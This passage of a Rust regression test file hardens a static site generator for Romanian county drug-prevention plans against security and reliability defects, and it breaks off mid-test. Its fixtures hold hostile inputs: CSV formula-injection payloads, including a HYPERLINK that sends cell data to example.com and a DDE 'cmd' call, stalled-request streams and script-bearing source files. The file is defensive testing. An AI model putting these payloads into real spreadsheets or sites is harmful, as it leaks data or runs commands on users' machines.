//! Regressions: one test per defect found by trying the portal as an attacker and a careless
//! operator would (issue 15), named after the defect, its case a fixture under
//! `tests/fixtures/regressions/<test name>/` where it is a site. docs/reliability.md lists them.

#![allow(clippy::unwrap_used)]

#[allow(unused_imports)]
use crate::serving::Serve;
use crate::support::{TestSite, fixtures, stderr, stdout};

// Publishing (items 3 and 4): src/output.rs, src/build.rs.

/// Issue 15, item 3: `build --output` pointed at the site itself, at its content/ or at a folder
/// of someone else's files is refused and changes nothing, where it used to replace it whole.
#[test]
fn build_refuses_an_output_that_is_the_site_or_a_foreign_folder() {
    use publish_support::entries;
    let case = fixtures().join("regressions/build_refuses_an_output_that_is_the_site_or_a_foreign_folder");
    let site = TestSite::minimal();
    crate::support::copy_tree(&case.join("foreign"), &site.root().join("notes"));
    let root = site.root().display().to_string();
    let before = entries(site.root());
    let cases = [
        (
            site.root().to_path_buf(),
            format!(
                "error: refusing to build into {root}: it is the site folder, or holds it, and publishing \
                 would replace the site's own files\n  hint: build into a folder of its own, such as public/ \
                 under the site (the default); --force does not change this\n"
            ),
        ),
        (
            site.root().join("content"),
            format!(
                "error: refusing to build into {root}/content: it is the site's content/ folder, or inside \
                 it, which the build reads\n  hint: build into a folder of its own, such as public/ under the \
                 site (the default); --force does not change this\n"
            ),
        ),
        (
            site.root().join("notes"),
            format!(
                "error: refusing to build into {root}/notes: the folder is not empty and was not written by \
                 planportal (it has no .planportal file), and publishing replaces it whole\n  hint: choose an \
                 empty or new folder, or add --force to replace this one and everything in it\n"
            ),
        ),
    ];
    for (output, expected) in cases {
        let run = site.run(&["build", "--output", &output.display().to_string()]);
        assert_eq!(run.status.code(), Some(2), "--output {}: {}", output.display(), stderr(&run));
        assert_eq!(stderr(&run), expected);
        assert_eq!(entries(site.root()), before, "--output {} changed the site", output.display());
    }
    // --force replaces the foreign folder, and only that.
    let run = site.run(&["build", "--force", "--output", &site.root().join("notes").display().to_string()]);
    assert!(run.status.success(), "{}", stderr(&run));
    assert!(site.root().join("notes/index.html").is_file() && !site.root().join("notes/notes.txt").exists());
}

/// Issue 15, item 4: a build killed at any step of publishing leaves the published site whole
/// (publishing used to be two renames, and a kill between them left no site at all).
#[test]
fn a_killed_build_leaves_the_published_site_whole() {
    use publish_support::{STEPS, paused_build};
    let site = TestSite::minimal();
    let before = crate::site::build(&site);
    let public = site.root().join("public");
    let mut paused = Vec::new();
    for step in STEPS {
        if let Some(mut build) = paused_build(&site, step, &[]) {
            build.kill().unwrap();
            build.wait().unwrap();
            paused.push(step);
        }
        assert!(public.is_dir(), "killed at `{step}`: no published site at all");
        assert_eq!(crate::site::read_tree(&public), before, "killed at `{step}`: the published site is not whole");
    }
    for step in ["staged", "written", "swapped"] {
        assert!(paused.contains(&step), "the build never paused at `{step}`: {paused:?}");
    }
}

/// Issue 15, item 4: what a killed build leaves beside the output (`public.tmp-*`,
/// `public.old-*`) is removed, or put back when it is the only published site, by the next build.
#[test]
fn the_next_build_cleans_up_after_a_killed_one() {
    use publish_support::{STEPS, leftovers, paused_build};
    let site = TestSite::minimal();
    let before = crate::site::build(&site);
    for step in STEPS {
        if let Some(mut build) = paused_build(&site, step, &[]) {
            build.kill().unwrap();
            build.wait().unwrap();
        }
        assert_eq!(crate::site::build(&site), before, "the build after one killed at `{step}`");
        assert_eq!(leftovers(site.root()), Vec::<String>::new(), "left after a build killed at `{step}`");
    }
    // Where the file system cannot exchange two folders atomically, publishing falls back to two
    // renames, and a build killed between them leaves the site only as public.old-*: the next
    // build puts it back first, so that even one that then stops on bad content leaves the
    // site published.
    let mut build = paused_build(&site, "aside", &[("PLANPORTAL_TEST_NO_EXCHANGE", "1")]).expect("the fallback");
    build.kill().unwrap();
    build.wait().unwrap();
    site.write("content/plans/rupt.yaml", "title: [");
    let run = site.run(&["build"]);
    assert_eq!(run.status.code(), Some(1), "{}", stderr(&run));
    assert_eq!(crate::site::read_tree(&site.root().join("public")), before, "the site moved aside was not put back");
    assert_eq!(leftovers(site.root()), Vec::<String>::new());
    // And the fallback, not killed, publishes as the exchange does.
    std::fs::remove_file(site.root().join("content/plans/rupt.yaml")).unwrap();
    let run = std::process::Command::new(env!("CARGO_BIN_EXE_planportal"))
        .args(["build", "--root"])
        .arg(site.root())
        .env("PLANPORTAL_TEST_NO_EXCHANGE", "1")
        .output()
        .unwrap();
    assert!(run.status.success(), "{}", stderr(&run));
    assert_eq!(crate::site::read_tree(&site.root().join("public")), before);
    assert_eq!(leftovers(site.root()), Vec::<String>::new());
}

/// Issue 15, item 4: a second build into the same output while one is publishing is refused
/// with a clear message, and the published site stays whole.
#[test]
fn a_second_build_into_the_same_output_is_refused() {
    use publish_support::{leftovers, paused_build};
    let site = TestSite::minimal();
    let before = crate::site::build(&site);
    let mut first = paused_build(&site, "written", &[]).expect("the first build pauses before publishing");
    let second = site.run(&["build"]);
    first.kill().unwrap();
    first.wait().unwrap();
    let public = site.root().join("public");
    assert_eq!(second.status.code(), Some(2), "{}", stderr(&second));
    assert_eq!(
        stderr(&second),
        format!(
            "error: another planportal build is publishing to {}: it holds {}\n  hint: wait for it to end, \
             then build again\n",
            public.display(),
            site.root().join(".public.lock").display()
        )
    );
    assert_eq!(crate::site::read_tree(&public), before);
    assert_eq!(crate::site::build(&site), before);
    assert_eq!(leftovers(site.root()), Vec::<String>::new());
}

mod publish_support {
    use std::collections::BTreeMap;
    use std::io::{BufRead, BufReader};
    use std::path::Path;
    use std::process::{Child, Command, Stdio};

    use crate::support::TestSite;

    /// The steps of publishing where a build can be told to pause (src/output.rs, `pause`); a
    /// step that a build does not go through (`aside` when the file system exchanges atomically)
    /// is run to the end.
    pub const STEPS: [&str; 4] = ["staged", "written", "aside", "swapped"];

    /// `build` on `site` with `env`, paused at `step` for a minute (the test kills it there), or
    /// None when the build never reached `step` and ran to its end.
    pub fn paused_build(site: &TestSite, step: &str, env: &[(&str, &str)]) -> Option<Child> {
        let mut child = Command::new(env!("CARGO_BIN_EXE_planportal"))
            .args(["build", "--quiet", "--root"])
            .arg(site.root())
            .envs(env.iter().copied())
            .env("PLANPORTAL_TEST_PAUSE_MS", "60000")
            .env("PLANPORTAL_TEST_PAUSE_AT", step)
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .expect("run planportal");
        let stderr = BufReader::new(child.stderr.take().expect("stderr"));
        let announced = format!("test pause: {step}");
        if stderr.lines().map_while(Result::ok).any(|line| line == announced) {
            return Some(child);
        }
        child.wait().expect("wait");
        None
    }

    /// The folders a build leaves beside `public/` while it publishes.
    pub fn leftovers(root: &Path) -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(root)
            .expect("list")
            .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
            .filter(|n| n.starts_with("public.tmp-") || n.starts_with("public.old-"))
            .collect();
        names.sort();
        names
    }

    /// Every file (with its bytes) and folder under `root`, and the lock files and folders beside it.
    pub fn entries(root: &Path) -> BTreeMap<String, Option<Vec<u8>>> {
        let beside = root.parent().expect("parent");
        let prefix = root.file_name().expect("name").to_string_lossy().into_owned();
        let mut all: BTreeMap<String, Option<Vec<u8>>> = std::fs::read_dir(beside)
            .expect("list")
            .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
            .filter(|n| n != &prefix && n.contains(&prefix))
            .map(|n| (format!("../{n}"), None))
            .collect();
        for entry in walkdir::WalkDir::new(root).sort_by_file_name() {
            let entry = entry.expect("entry");
            let relative = entry.path().strip_prefix(root).expect("inside").to_string_lossy().into_owned();
            let bytes = entry.file_type().is_file().then(|| std::fs::read(entry.path()).expect("read"));
            all.insert(relative, bytes);
        }
        all
    }
}

// Rendering and what check must refuse for build to succeed (items 8, 9, 12, 13): src/model/resolve/limits.rs, src/render/, src/feed.rs.

/// Issue 15, item 8: `wordings: []` in a framework passed `check` and panicked `build`, which
/// showed the first wording of every framework goal and objective.
#[test]
fn an_empty_wordings_list_is_a_content_error_not_a_panic() {
    let site = TestSite::minimal();
    site.overlay(&fixtures().join("regressions/an_empty_wordings_list_is_a_content_error_not_a_panic"));
    let expected = "\
error: framework goal `prevenire` has no wording
 --> content/frameworks/sna.yaml:4:5
  |
4 |     wordings: []
  |     ^^^^^^^^
  |
  = help: copy at least one wording as the plans quote it, e.g. wordings: [Consolidarea sistemului național de prevenire]

1 error
";
    let check = site.run(&["check"]);
    assert_eq!(stderr(&check), expected);
    assert_eq!(check.status.code(), Some(1));
    let build = site.run(&["build", "--quiet"]);
    assert_eq!(build.status.code(), Some(1), "{}", stderr(&build));
    assert!(stderr(&build).contains(expected), "{}", stderr(&build));
}

/// Issue 15, item 9: ~2,600 nested elements in a Markdown body overflowed the stack of the HTML
/// minifier (exit 134, staging folder left behind). Nesting is capped at 100 levels, as a content
/// error at the element that passes the cap.
#[test]
fn markdown_nested_past_the_cap_is_refused_before_rendering() {
    let quotes = ">".repeat(3000);
    render_support::assert_nesting_refused(&format!("{quotes} text\n"), "content/documents/pv-cluj-napoca.md:16:101");
}

/// Issue 15, item 9: 100,000 unclosed `<div>` made the sanitiser quadratic (over 60 s). The
/// nesting cap refuses them at the 101st.
#[test]
fn a_hundred_thousand_unclosed_divs_are_refused_without_hanging() {
    render_support::assert_nesting_refused(&"<div>\n".repeat(100_000), "content/documents/pv-cluj-napoca.md:116:1");
}

/// Issue 15, item 12: an objective number of 295 characters passed `check`; `build` failed
/// without a place because the objective's folder name passed the 255 bytes file systems allow.
#[test]
fn a_number_too_long_for_a_folder_name_is_refused_at_its_place() {
    let site = TestSite::minimal();
    site.overlay(&fixtures().join("regressions/a_number_too_long_for_a_folder_name_is_refused_at_its_place"));
    for args in [&["check"][..], &["build", "--quiet"]] {
        let output = site.run(args);
        assert_eq!(output.status.code(), Some(1), "{args:?}: {}", stderr(&output));
        render_support::assert_single_error(
            &stderr(&output),
            "this number is too long to name a page: 289 characters in its address, at most 100",
            "content/plans/cluj-droguri.yaml:26:22",
            "a number is the short label printed before the text, e.g. 1.2. or OS.3; move the rest into `text`",
        );
    }
}

/// Issue 15, item 12: counties `cluj-si-bacau` + `ialomita` and `cluj` + `bacau-si-ialomita` both
/// had the comparison page `comparatii/cluj-si-bacau-si-ialomita/`; `check` passed and `build`
/// failed without a place.
#[test]
fn county_slugs_whose_comparison_addresses_collide_are_refused() {
    let site = TestSite::minimal();
    site.overlay(&fixtures().join("regressions/county_slugs_whose_comparison_addresses_collide_are_refused"));
    let expected = "\
error: the comparison of `cluj` and `bacau-si-ialomita` would have the address of the comparison of `cluj-si-bacau` and `ialomita` (comparatii/cluj-si-bacau-si-ialomita/)
 --> content/counties.yaml:5:10
  |
5 | - {slug: bacau-si-ialomita, name: Bacău și Ialomița, code: RO-BI}
  |          ^^^^^^^^^^^^^^^^^
  |
  = help: `-si-` joins the two counties in the address of a comparison; change one of these slugs

1 error
";
    let check = site.run(&["check"]);
    assert_eq!(stderr(&check), expected);
    assert_eq!(check.status.code(), Some(1));
    let build = site.run(&["build", "--quiet"]);
    assert_eq!(build.status.code(), Some(1), "{}", stderr(&build));
    assert!(stderr(&build).contains(expected), "{}", stderr(&build));
}

/// Issue 15, item 13: a control character written as a YAML escape (`\v`, Word's manual line
/// break) passed `check` and made the Atom feed ill-formed XML. It is refused where it is written.
#[test]
fn a_control_character_escaped_in_a_title_is_refused_before_the_feed() {
    let site = TestSite::minimal();
    site.overlay(&fixtures().join("regressions/a_control_character_escaped_in_a_title_is_refused_before_the_feed"));
    let expected = "\
error: control character U+000B in the title
 --> content/plans/cluj-droguri.yaml:1:49
  |
1 | title: \"PLANUL DE ACȚIUNE ÎN DOMENIUL DROGURILOR\\vLA NIVELUL JUDEȚULUI CLUJ\"
  |                                                 ^^
  |
  = help: remove the escape `\\v`: the publications feed (XML) cannot carry control characters; write a space

1 error
";
    let check = site.run(&["check"]);
    assert_eq!(stderr(&check), expected);
    assert_eq!(check.status.code(), Some(1));
    let build = site.run(&["build", "--quiet"]);
    assert_eq!(build.status.code(), Some(1), "{}", stderr(&build));
    assert!(!site.root().join("public/publicatii.xml").exists());
}

/// Issue 15, item 13: Markdown and raw HTML could embed third-party images (`https://`, and
/// `//host/…`, which ammonia passes as relative), though the footer promises no external requests.
/// Images are not published: a Markdown image shows its alt text, a raw `<img>` is dropped.
#[test]
fn markdown_images_are_not_published_as_external_requests() {
    let site = TestSite::minimal();
    site.overlay(&fixtures().join("regressions/markdown_images_are_not_published_as_external_requests"));
    let build = site.run(&["build", "--quiet"]);
    assert!(build.status.success(), "{}", stderr(&build));
    let page = site.read("public/documente/pv-cluj-napoca/index.html");
    let lower = page.to_lowercase();
    assert!(!lower.contains("<img"), "{page}");
    assert!(!lower.contains("tracker.example"), "{page}");
    assert!(page.contains("Sigla Consiliului Județean"), "{page}");
}

mod render_support {
    use std::path::Path;

    use crate::support::TestSite;

    /// The minimal site's document with `tail` after its body, which ends on line 15.
    pub fn document_with(tail: &str) -> String {
        format!(
            "---\ntitle: PROCES-VERBAL\nkind: proces-verbal\ncounty: cluj\nlocality: cluj-napoca\ndate: 2023-06-16\n\
             source: pv.txt\nparticipants: [CPECA Cluj]\nvulnerable_groups:\n  - {{text: Persoane vârstnice, themes: \
             [persoane-varstnice]}}\n---\n# PROCES-VERBAL\n\n- Persoane vârstnice.\n\n{tail}"
        )
    }

    /// The minimal site's minutes with `tail` after the body: `check` and `build` both refuse it
    /// (within the time limit) with the nesting error at `place`, and no staging folder is left.
    pub fn assert_nesting_refused(tail: &str, place: &str) {
        let site = TestSite::minimal();
        site.write("content/documents/pv-cluj-napoca.md", &document_with(tail));
        for args in [&["check"][..], &["build", "--quiet"]] {
            let output = site.run_with_limit(args);
            assert_eq!(output.status.code(), Some(1), "{args:?}: {}", crate::support::stderr(&output));
            assert_single_error(
                &crate::support::stderr(&output),
                "the text nests more than 100 levels deep (block quotes, lists, emphasis or HTML tags)",
                place,
                "no published document nests this deep; remove the extra levels",
            );
        }
        assert_no_staging_left(&site);
    }

    /// One error with this message, place and hint. The snippet between them is not compared:
    /// its source line is thousands of characters long.
    pub fn assert_single_error(stderr: &str, message: &str, place: &str, hint: &str) {
        let lines: Vec<&str> = stderr.lines().collect();
        assert_eq!(lines.first().copied(), Some(format!("error: {message}").as_str()), "{stderr}");
        assert_eq!(lines.get(1).map(|l| l.trim_start()), Some(format!("--> {place}").as_str()), "{stderr}");
        assert!(lines.iter().any(|l| l.trim_start() == format!("= help: {hint}")), "{stderr}");
        assert!(stderr.contains("\n\n1 error\n"), "{stderr}");
    }

    /// A failed build leaves no `public.tmp-…` folder beside the site.
    pub fn assert_no_staging_left(site: &TestSite) {
        let left: Vec<String> = std::fs::read_dir(site.root())
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|name| name.starts_with("public.tmp"))
            .collect();
        assert!(left.is_empty(), "staging left behind: {left:?}");
        assert!(!Path::new(&site.root().join("public")).exists());
    }
}

// Stored script, headers, CSV, search under a sub-path (items 5, 6, 7, 15).

/// Issue 15, item 5: any file under `content/sources/` was published verbatim as `surse/NAME`, so
/// an `.html`, an `.svg` with `onload` or a `.js` (which passes `script-src 'self'`) was stored
/// script on the portal's own origin, and `check` said nothing. Only `.txt` is accepted, and the
/// hosts are told to serve `surse/` as plain text that no browser sniffs into HTML.
#[test]
fn sources_a_browser_could_run_are_refused() {
    let site = TestSite::minimal();
    site.overlay(&fixtures().join("regressions/sources_a_browser_could_run_are_refused"));
    let output = site.run(&["check"]);
    let hint = " = help: sources are published as plain text: save the text as UTF-8 in a `.txt` file; a browser could run or render any other type as part of the portal\n";
    let expected: String = ["html", "js", "svg"]
        .iter()
        .map(|ext| {
            format!(
                "error: the source file `evil.{ext}` is not a `.txt` file\n--> content/sources/evil.{ext}\n{hint}\n"
            )
        })
        .collect::<String>()
        + "3 errors\n";
    assert_eq!(stderr(&output), expected);
    assert_eq!(output.status.code(), Some(1));

    // The sources that are accepted are published as .txt, and `_headers` serves them as plain
    // text, never sniffed.
    let clean = TestSite::minimal();
    assert!(clean.run(&["build", "--quiet"]).status.success());
    // Beside them are the sources' pages (`surse/<name>/`, folders), which stay HTML: each raw
    // file is named in `_headers`, never the whole folder.
    let published: Vec<String> = std::fs::read_dir(clean.root().join("public/surse"))
        .unwrap()
        .map(|e| e.unwrap())
        .filter(|e| e.file_type().unwrap().is_file())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert!(!published.is_empty() && published.iter().all(|n| n.ends_with(".txt")), "{published:?}");
    let headers = clean.read("public/_headers");
    for name in &published {
        let rule = format!("/surse/{name}\n  Content-Type: text/plain; charset=utf-8\n");
        assert!(headers.contains(&rule), "{headers}");
    }
    assert!(!headers.contains("/surse/*"), "{headers}");
    assert!(headers.contains("/*\n") && headers.contains("  X-Content-Type-Options: nosniff\n"), "{headers}");
}

/// Issue 15, item 6: the Content-Security-Policy existed only as a `<meta>` in the page template,
/// so files that are not pages (sources, data, the search bundle) carried none, and no other
/// security header reached any host. The build now writes `_headers` (Netlify, Cloudflare Pages)
/// from `headers::SECURITY_HEADERS`, `docs/hosting.md` gives the same headers for nginx and
/// Apache, and the `<meta>` policy of every page is the one of `headers.rs`.
#[test]
fn security_headers_are_shipped_for_hosts_not_only_as_meta() {
    use planportal::headers::{CONTENT_SECURITY_POLICY, SECURITY_HEADERS};
    let site = TestSite::minimal();
    assert!(site.run(&["build", "--quiet"]).status.success());
    let headers = site.read("public/_headers");
    let every_path: String = SECURITY_HEADERS.iter().map(|(name, value)| format!("  {name}: {value}\n")).collect();
    assert!(headers.starts_with(&format!("/*\n{every_path}")), "{headers}");

    let docs = std::fs::read_to_string(crate::support::repo().join("docs/hosting.md")).unwrap();
    for (name, value) in SECURITY_HEADERS {
        assert!(docs.contains(&format!("add_header {name} \"{value}\" always;")), "nginx lacks {name}");
        assert!(docs.contains(&format!("Header always set {name} \"{value}\"")), "Apache lacks {name}");
    }

    let selector = scraper::Selector::parse(r#"meta[http-equiv="Content-Security-Policy"]"#).unwrap();
    let mut pages = 0;
    for entry in walkdir::WalkDir::new(site.root().join("public")) {
        let entry = entry.unwrap();
        if entry.path().extension().is_some_and(|e| e == "html") {
            let html = scraper::Html::parse_document(&std::fs::read_to_string(entry.path()).unwrap());
            let policies: Vec<&str> = html.select(&selector).filter_map(|m| m.value().attr("content")).collect();
            assert_eq!(policies, [CONTENT_SECURITY_POLICY], "{}", entry.path().display());
            pages += 1;
        }
    }
    assert!(pages > 10, "only {pages} pages");
}

/// Issue 15, item 7: a CSV cell whose text starts with `=`, `+`, `-` or `@` (or tab, CR) is
/// evaluated as a formula when a journalist opens the download in a spreadsheet. Every such cell
/// of every CSV now starts with an apostrophe (OWASP's rule), the data package says so, and the
/// JSON keeps the exact text.
#[test]
fn csv_cells_that_start_a_formula_are_neutralised() {
    let site = TestSite::minimal();
    site.overlay(&fixtures().join("regressions/csv_cells_that_start_a_formula_are_neutralised"));
    assert!(site.run(&["build", "--quiet"]).status.success());
    let formula = |cell: &str| cell.trim_start().starts_with(['=', '+', '-', '@', '\t', '\r', '\0']);
    let mut csv_files = 0;
    for entry in walkdir::WalkDir::new(site.root().join("public/date")) {
        let entry = entry.unwrap();
        if entry.path().extension().is_none_or(|e| e != "csv") {
            continue;
        }
        csv_files += 1;
        let bytes = std::fs::read(entry.path()).unwrap();
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&bytes[3..]);
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                assert!(!formula(cell), "{}: a cell starts a formula: {cell:?}", entry.path().display());
            }
        }
    }
    assert!(csv_files >= 5, "only {csv_files} CSV files");

    let activities = site.read("public/date/activitati.csv");
    let mut reader = csv::Reader::from_reader(activities.trim_start_matches('\u{feff}').as_bytes());
    let header = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| row[header.iter().position(|h| h == name).unwrap()].to_owned();
    let expected = [
        ("plan", r#"'=HYPERLINK("http://example.com/?"&A1,"clic")"#),
        ("tip_plan", "plan-droguri"),
        ("grupare", "Acțiune strategică I REDUCEREA CERERII DE DROGURI"),
        ("obiectiv_general_text", "'+40 de școli incluse în program"),
        ("obiectiv_specific_text", "'-Dezvoltarea intervențiilor de prevenire"),
        ("activitate_id", "og-1-os1-m1"),
        ("activitate_text", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("indicatori", "'- ; - 2024"),
        ("termen", "'-2022"),
        // A year read from "-2022" is a number, not text: the number column has no apostrophe.
        ("an_inceput", "2022"),
        ("termen_evaluare", "'+anual"),
        (
            "responsabili",
            "Centrul Regional de Prevenire, Evaluare și Consiliere Antidrog Cluj ; Direcția de Sănătate Publică Cluj ; Autoritățile administrației publice locale",
        ),
        ("parteneri", ""),
        ("finantare", "'=1+1"),
        ("obiectiv_national", "sna/prevenire-universala"),
        ("note", ""),
    ];
    for (name, value) in expected {
        assert_eq!(cell(name), value, "{name}");
    }

    let json: serde_json::Value = serde_json::from_str(&site.read("public/date/planuri.json")).unwrap();
    let plan = &json["plans"][0];
    assert_eq!(plan["title"], r#"=HYPERLINK("http://example.com/?"&A1,"clic")"#);
    let activity = &plan["objectives"][0]["activities"][0];
    assert_eq!(activity["text"], "@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(activity["indicators"], serde_json::json!(["-", "- 2024"]));
    assert_eq!(activity["funding"], serde_json::json!(["=1+1"]));

    let package: serde_json::Value = serde_json::from_str(&site.read("public/date/datapackage.json")).unwrap();
    let description = package["description"].as_str().unwrap();
    assert!(description.contains("apostrof"), "{description}");
}

/// Issue 15, item 15: with `base_url = https://example.ro/portal/` every search result linked
/// to `/portal/portal/…`: the index stored URLs with the base path and Pagefind, which prefixes
/// the folder it was loaded from, added it again. Each URL stored in the index, resolved as
/// Pagefind resolves it in the browser, must name a page of the site, under `/portal/` once.
#[test]
fn search_results_under_a_sub_path_carry_the_base_path_once() {
    use std::io::Read;
    let site = TestSite::minimal();
    site.write("config.toml", "title = \"Portal de test\"\nbase_url = \"https://example.ro/portal/\"\n");
    let built = std::process::Command::new(env!("CARGO_BIN_EXE_planportal"))
        .args(["build", "--quiet", "--root"])
        .arg(site.root())
        // Several shards, so that the merged ones are checked too.
        .env("PLANPORTAL_SHARD_RECORDS", "5")
        .output()
        .unwrap();
    assert!(built.status.success(), "{}", stderr(&built));
    let public = site.root().join("public");
    let mut urls = Vec::new();
    for entry in walkdir::WalkDir::new(public.join("pagefind")) {
        let entry = entry.unwrap();
        if entry.path().extension().is_some_and(|e| e == "pf_fragment") {
            let mut text = String::new();
            flate2::read::GzDecoder::new(std::fs::File::open(entry.path()).unwrap()).read_to_string(&mut text).unwrap();
            let fragment: serde_json::Value = serde_json::from_str(text.strip_prefix("pagefind_dcd").unwrap()).unwrap();
            urls.push(fragment["url"].as_str().unwrap().to_owned());
        }
    }
    assert!(urls.len() >= 8, "only {} records", urls.len());
    for url in urls {
        // Pagefind's `fullUrl`: the base URL it is given (search.js passes the base path), a
        // slash, the stored URL, with runs of slashes collapsed.
        let mut full = format!("/portal//{url}");
        while full.contains("//") {
            full = full.replace("//", "/");
        }
        let path = full.split('#').next().unwrap();
        let inside = path.strip_prefix("/portal/").unwrap_or_else(|| panic!("{url} leads outside /portal/"));
        let file =
            if inside.is_empty() || inside.ends_with('/') { format!("{inside}index.html") } else { inside.into() };
        assert!(public.join(&file).is_file(), "the search result {url} leads to {full}, which does not exist");
    }
}

// serve (items 1, 2, 6, 14, 17): src/serve/.

/// An idle `serve` rebuilt several times a second: notify reports file opens and reads, and every
/// rebuild reads the content again. It must build once at start, then not again while idle.
#[test]
fn serve_does_not_rebuild_while_idle() {
    let site = TestSite::minimal();
    let server = Serve::start(&site, &[]);
    let first = server.version();
    std::thread::sleep(std::time::Duration::from_secs(10));
    assert_eq!(server.version(), first, "an idle serve rebuilt; stdout: {:?}", server.lines());
    let rebuilds = server.lines().iter().filter(|l| l.starts_with("rebuilt:")).count();
    assert_eq!(rebuilds, 1, "one build at start, none while idle; stdout: {:?}", server.lines());
}

/// Editors that save by writing a new file and renaming it over the old one (vim, JetBrains,
/// gedit) and a deleted and re-created `content/` left `serve` watching nothing.
#[test]
fn serve_keeps_watching_a_config_saved_by_rename_and_a_recreated_content() {
    let site = TestSite::minimal();
    let server = Serve::start(&site, &[]);
    let config = site.read("config.toml");
    for title in ["Portal redenumit unu", "Portal redenumit doi"] {
        site.write("config.toml.new", &config.replace("Portal de test", title));
        std::fs::rename(site.root().join("config.toml.new"), site.root().join("config.toml")).unwrap();
        server.wait_for("/", |status, text| status == 200 && text.contains(title));
    }
    let document = site.read("content/documents/pv-cluj-napoca.md");
    let saved = tempfile::tempdir().unwrap();
    crate::support::copy_tree(&site.root().join("content"), &saved.path().join("content"));
    std::fs::remove_dir_all(site.root().join("content")).unwrap();
    server.wait_for("/", |status, _| status == 500);
    crate::support::copy_tree(&saved.path().join("content"), &site.root().join("content"));
    server.wait_for("/documente/pv-cluj-napoca/", |status, _| status == 200);
    for line in ["Paragraf după re-creare.", "Al doilea paragraf după re-creare."] {
        site.write(
            "content/documents/pv-cluj-napoca.md",
            &document.replace("# PROCES-VERBAL", &format!("# PROCES-VERBAL\n\n{line}")),
        );
        server.wait_for("/documente/pv-cluj-napoca/", |status, text| status == 200 && text.contains(line));
    }
}

/// A panic in a rebuild killed the watcher thread silently: the server kept answering with the
/// old site and never rebuilt again. It must show the panic on the error page and keep watching.
#[test]
fn serve_survives_a_panic_in_a_rebuild() {
    let site = TestSite::minimal();
    let server = Serve::start(&site, &[("PLANPORTAL_SERVE_PANIC_IF", "content/panica.txt")]);
    site.write("content/panica.txt", "");
    server.wait_for("/", |status, text| status == 500 && text.contains("panicked"));
    std::fs::remove_file(site.root().join("content/panica.txt")).unwrap();
    let document = site.read("content/documents/pv-cluj-napoca.md");
    site.write(
        "content/documents/pv-cluj-napoca.md",
        &document.replace("# PROCES-VERBAL", "# PROCES-VERBAL\n\nParagraf după panică."),
    );
    server
        .wait_for("/documente/pv-cluj-napoca/", |status, text| status == 200 && text.contains("Paragraf după panică."));
}

/// `serve` built into the publishable `public/`, with links to http://127.0.0.1:PORT/.
#[test]
fn serve_never_writes_into_public() {
    let site = TestSite::minimal();
    let server = Serve::start(&site, &[]);
    server.wait_for("/", |status, _| status == 200);
    assert!(!site.root().join("public").exists(), "serve wrote into public/");
    let folder = server.folder().expect("serve names its folder on stdout");
    assert!(folder.join("index.html").is_file(), "no site in {}", folder.display());
    drop(server);
    assert!(!folder.exists(), "serve's folder {} outlived it", folder.display());
}

/// A taken port was found only after a whole build had been written.
#[test]
fn serve_fails_before_building_when_the_port_is_taken() {
    let site = TestSite::minimal();
    let taken = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = taken.local_addr().unwrap().port();
    let output = site.run(&["serve", "--port", &port.to_string()]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(!stdout(&output).contains("rebuilt:"), "serve built before listening: {}", stdout(&output));
    assert!(!site.root().join("public").exists(), "serve wrote a site before listening");
    let expected = format!("error: cannot listen on 127.0.0.1:{port}: ");
    assert!(stderr(&output).starts_with(&expected), "stderr: {}", stderr(&output));
    assert!(stderr(&output).contains("--port"), "the error must hint at --port: {}", stderr(&output));
}

/// The Content-Security-Policy and the other security headers were only a `<meta>` in the pages;
/// `serve` must send them with every response, as a host would.
#[test]
fn serve_sends_the_security_headers() {
    let site = TestSite::minimal();
    let server = Serve::start(&site, &[]);
    for path in ["/", "/nu-exista/", "/__planportal/version", "/style.css"] {
        let (_, head, _) = server.request("GET", path);
        for (name, value) in planportal::headers::SECURITY_HEADERS {
            let line = format!("{}: {value}", name.to_ascii_lowercase());
            assert!(head.to_ascii_lowercase().contains(&line.to_ascii_lowercase()), "{path} lacks {name}: {head}");
        }
    }
}

/// One slow client blocked every other: a connection that sends half a request, or a request
/// whose body never comes, must not stop the server answering others.
#[test]
fn serve_answers_while_a_client_stalls() {
    use std::io::Write;
    let site = TestSite::minimal();
    let server = Serve::start(&site, &[]);
    let mut half = std::net::TcpStream::connect(("127.0.0.1", server.port)).unwrap();
    half.write_all(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n").unwrap();
    let mut no_body = std::net::TcpStream::connect(("127.0.0.1", server.port)).unwrap();
    no_body.write_all(b"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 100000\r\n\r\nabc").unwrap();
    std::thread::sleep(std::time::Duration::from_millis(300));
    let (status, _, body) = server.request("GET", "/__planportal/version");
    assert_eq!(status, 200, "{body}");
    let (status, _, _) = server.request("GET", "/");
    assert_eq!(status, 200);
    drop((half, no_body));
}

/// Every method was answered 200 with the page; only GET and HEAD are meant.
#[test]
fn serve_answers_get_and_head_only() {
    let site = TestSite::minimal();
    let server = Serve::start(&site, &[]);
    let (status, head, body) = server.request("HEAD", "/");
    assert_eq!(status, 200, "{head}");
    assert!(body.is_empty(), "HEAD sent a body: {body}");
    for method in ["POST", "PUT", "DELETE", "PATCH", "OPTIONS"] {
        let (status, head, _) = server.request(method, "/");
        assert_eq!(status, 405, "{method}: {head}");
        assert!(head.to_ascii_lowercase().contains("allow: get, head"), "{method}: {head}");
    }
}

/// Symlinks under the served folder were followed, out of it.
#[cfg(unix)]
#[test]
fn serve_never_follows_a_link_out_of_its_folder() {
    let site = TestSite::minimal();
    let server = Serve::start(&site, &[]);
    server.wait_for("/", |status, _| status == 200);
    let secret = tempfile::tempdir().unwrap();
    std::fs::write(secret.path().join("secret.txt"), "SECRET-OUTSIDE").unwrap();
    let folder = server.folder().unwrap_or_else(|| site.root().join("public"));
    std::os::unix::fs::symlink(secret.path().join("secret.txt"), folder.join("link.txt")).unwrap();
